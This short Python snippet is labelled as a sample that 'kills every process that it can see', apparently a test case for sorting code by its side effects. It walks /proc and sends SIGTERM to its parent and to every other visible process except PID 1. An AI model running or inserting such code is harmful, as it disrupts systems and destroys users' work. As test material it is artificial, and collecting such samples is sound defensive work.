# class: touches
# what: kills every process that it can see
import os, signal
me = os.getpid()
pids = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in (me,)]
for pid in [os.getppid(), *pids]:
    if pid > 1:
        try:
            os.kill(pid, signal.SIGTERM)
        except OSError:
            pass
